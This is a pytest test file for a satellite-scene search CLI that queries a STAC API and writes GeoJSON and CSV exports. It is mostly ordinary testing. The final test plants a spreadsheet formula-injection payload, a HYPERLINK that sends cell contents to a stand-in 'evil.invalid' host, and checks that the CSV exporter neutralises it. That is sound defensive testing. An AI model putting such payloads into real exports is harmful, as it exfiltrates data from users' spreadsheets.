"""``scene-picker search`` against the real STAC API, and the GeoJSON/CSV exports it writes."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import numpy
import pytest
import shapely
from pyproj import Transformer
from shapely.geometry import box

from scene_picker.cli.main import main
from scene_picker.core.export import feature_collection, to_csv_text
from scene_picker.core.query import Query
from scene_picker.core.scene import Scene

from conftest import PKG_PARENT
from support.ports import free_port
from support.stac_faulty import FaultyStac
from support.stac_items import brute_force
from support.stac_server import stac_api  # noqa: F401 - session fixture (a real STAC API)

pytestmark = pytest.mark.slow


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(["search", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_geojson_to_stdout_with_total_on_stderr(stac_api, capsys):  # noqa: F811
    code, out, err = run_cli(
        capsys,
        "--url",
        stac_api.url,
        "--bbox=-20,-30,60,40",
        "--end",
        "2023-12-31",
        "--cloud-max",
        "40",
        "--collections",
        "sentinel-2-test,landsat-test",
    )
    assert code == 0, err
    collection = json.loads(out)
    expected = brute_force(
        stac_api.items,
        Query.build(
            bbox="-20,-30,60,40", end="2023-12-31", cloud_max=40, collections="sentinel-2-test,landsat-test"
        ),
    )
    assert {f["id"] for f in collection["features"]} == expected
    feature = collection["features"][0]
    assert feature["properties"]["datetime"].endswith("Z")
    assert feature["properties"]["eo:cloud_cover"] <= 40
    assert feature["assets"]["B01"]["href"].startswith("https://data.invalid/")
    assert f"{len(expected)} scenes of {len(expected)} matching" in err


def test_csv_file_with_a_mercator_aoi_file_and_limit(stac_api, capsys, tmp_path):  # noqa: F811
    to_merc = Transformer.from_crs("EPSG:4326", "EPSG:3857", always_xy=True)
    aoi = tmp_path / "aoi.wkt"
    to_mercator = lambda xy: numpy.column_stack(to_merc.transform(xy[:, 0], xy[:, 1]))  # noqa: E731
    aoi.write_text(shapely.transform(box(-60, -40, 40, 50), to_mercator).wkt)
    out_file = tmp_path / "out" / "scenes.csv"
    code, out, err = run_cli(
        capsys,
        "--url",
        stac_api.url,
        "--aoi",
        str(aoi),
        "--aoi-crs",
        "EPSG:3857",
        "--format",
        "csv",
        "--out",
        str(out_file),
        "--limit",
        "15",
    )
    assert code == 0, err
    assert out == ""
    rows = list(csv.DictReader(out_file.open(encoding="utf-8")))
    assert len(rows) == 15
    expected = brute_force(stac_api.items, Query.build(aoi=box(-60, -40, 40, 50)))
    assert {r["id"] for r in rows} <= expected and len(expected) > 15
    assert all("B01=https://data.invalid/" in r["assets"] for r in rows)
    assert {r["collection"] for r in rows} <= {"sentinel-2-test", "landsat-test", "dem-test"}
    assert f"15 scenes of {len(expected)} matching" in err


@pytest.mark.parametrize(
    "args, message",
    [
        (["--aoi", "POLYGON ((0 0, 1 1"], "not valid WKT"),
        (["--aoi", "/no/such/aoi.geojson"], "neither WKT, GeoJSON nor an existing file"),
        (["--bbox=0,0,1"], "expected four"),
        (["--aoi", "POINT (1 2)", "--aoi-crs", "EPSG:0"], "Unknown CRS"),
        (["--bbox=0,0,1,1", "--start", "2023-02-30"], "Bad date"),
        (["--bbox=0,0,1,1", "--cloud-max", "140"], "between 0 and 100"),
    ],
)
def test_bad_input_is_a_usage_error(stac_api, capsys, args, message):  # noqa: F811
    code, out, err = run_cli(capsys, "--url", stac_api.url, *args)
    assert code == 2 and out == ""
    assert message in err and "Traceback" not in err


def test_unreachable_server_and_malformed_answer_exit_non_zero(capsys):
    port = free_port()  # nothing listens there
    code, out, err = run_cli(capsys, "--url", f"http://127.0.0.1:{port}", "--bbox=0,0,1,1", "--retries", "1")
    assert code == 4 and out == ""
    assert f"127.0.0.1:{port}" in err and err.startswith("scene-picker: error:")
    faulty = FaultyStac().start()
    try:
        for mode, needle in (("html", "HTML page"), ("no-features", "'features'")):
            faulty.mode = mode
            code, out, err = run_cli(capsys, "--url", faulty.url, "--bbox=0,0,1,1", "--retries", "1")
            assert code == 5 and out == ""
            assert needle in err and f"{faulty.url}/search" in err
    finally:
        faulty.stop()


def test_the_installed_command_runs_as_a_process(stac_api):  # noqa: F811
    env = {**os.environ, "PYTHONPATH": str(PKG_PARENT)}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "scene_picker",
            "search",
            "--url",
            stac_api.url,
            "--bbox=170,-60,-165,60",
            "--collections",
            "dem-test",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    ids = {f["id"] for f in json.loads(done.stdout)["features"]}
    assert ids == brute_force(stac_api.items, Query.build(bbox="170,-60,-165,60", collections="dem-test"))
    assert ids


def test_exports_round_trip():
    from scene_picker.core.scene import Asset

    scenes = [
        Scene(
            "p",
            "a",
            collection="c",
            cloud_cover=12.5,
            footprint=box(0, 0, 1, 1),
            assets={"B1": Asset("B1", "http://h/a/B1.tif"), "B2": Asset("B2", "http://h/a/B2.tif")},
        ),
        Scene("p", 'b;c,"d"', online=False),
    ]
    collection = feature_collection(scenes)
    back = [Scene.from_feature(f) for f in json.loads(json.dumps(collection))["features"]]
    assert [s.id for s in back] == ["a", 'b;c,"d"'] and back[0].assets == scenes[0].assets
    rows = list(csv.DictReader(io.StringIO(to_csv_text(scenes, asset_columns=True))))
    assert rows[0]["cloud_cover"] == "12.5" and rows[0]["asset:B2"] == "http://h/a/B2.tif"
    assert rows[0]["bbox"] == "0.000000,0.000000,1.000000,1.000000"
    assert rows[1]["id"] == 'b;c,"d"' and rows[1]["online"] == "no" and rows[1]["cloud_cover"] == ""


def test_csv_cells_from_the_catalog_never_start_a_formula():
    from scene_picker.core.scene import Asset

    evil = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'
    scene = Scene(
        "p",
        evil,
        collection="+c",
        platform="@p",
        footprint=box(-10, -5, -1, -2),
        assets={"B1": Asset("B1", "-http://h/B1.tif")},
    )
    (row,) = csv.DictReader(io.StringIO(to_csv_text([scene], asset_columns=True)))
    assert row["id"] == "'" + evil
    assert (row["collection"], row["platform"]) == ("'+c", "'@p")
    assert row["asset:B1"] == "'-http://h/B1.tif" and row["assets"] == "B1=-http://h/B1.tif"
    assert row["bbox"] == "-10.000000,-5.000000,-1.000000,-2.000000"  # our own numbers stay as they are
